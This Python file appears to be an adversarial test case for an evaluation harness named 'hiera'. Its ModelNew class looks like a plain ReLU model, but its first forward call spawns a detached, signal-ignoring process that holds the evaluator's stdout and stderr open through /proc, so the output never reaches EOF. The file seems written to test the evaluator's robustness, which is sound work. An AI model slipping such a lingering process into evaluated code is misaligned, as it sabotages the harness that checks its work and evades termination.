# Attack (holding hiera's stdout pipe open): on its first call, double-forks a lingering process that
# keeps the worker's fds 0-2 (inherited from hiera) and also opens hiera's own stdout and stderr through
# /proc/<cli>/fd/1 and fd/2, so whoever reads hiera's output (the editor's job, a CI step) never sees
# EOF. A trusted evaluator: the CLI's stdout and stderr reach EOF as soon as hiera exits.
import os
import signal
from pathlib import Path

import torch
from torch import nn

TOKEN = "@TOKEN@"
NAME = "hiera-attack-hold-" + TOKEN



def _is_test_runner(args):
    """pytest itself (its own command line, not a path that merely contains the word)."""
    return any(Path(a).name in ("pytest", "py.test") for a in args[:3]) or "pytest" in args[1:3]

def _hiera_cli():
    """hiera's CLI among the ancestors (never beyond it, never a test runner: test-data safety)."""
    status = Path("/proc/self/status")
    for _ in range(8):
        try:
            ppid = int(next(ln.split()[1] for ln in status.read_text().splitlines() if ln.startswith("PPid:")))
            args = [a.decode(errors="replace") for a in Path(f"/proc/{ppid}/cmdline").read_bytes().split(b"\0")]
        except (OSError, StopIteration):
            return None
        if ppid <= 1 or _is_test_runner(args):
            return None
        if "engine.cli" in args or any(Path(a).name == "hiera" for a in args[:2]):
            return ppid
        status = Path(f"/proc/{ppid}/status")
    return None


def _linger():
    cli = _hiera_cli()
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        if cli is not None:
            for fd in (1, 2):
                try:
                    held = os.open(f"/proc/{cli}/fd/{fd}", os.O_WRONLY)
                    os.set_inheritable(held, True)
                except OSError:
                    pass
        for fd in (0, 1, 2):
            try:
                os.set_inheritable(fd, True)
            except OSError:
                pass
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.execv("/bin/sh", [NAME, "-c", "trap '' TERM HUP INT; i=0; while [ $i -lt 120 ]; do sleep 1; i=$((i+1)); done"])
    finally:
        os._exit(0)


_ONCE = []  # once per process: the evaluator builds a new ModelNew for every trial


class ModelNew(nn.Module):
    def __init__(self, *args):
        super().__init__()

    def forward(self, x):
        if not _ONCE:
            _ONCE.append(True)
            _linger()
        return torch.relu(x)
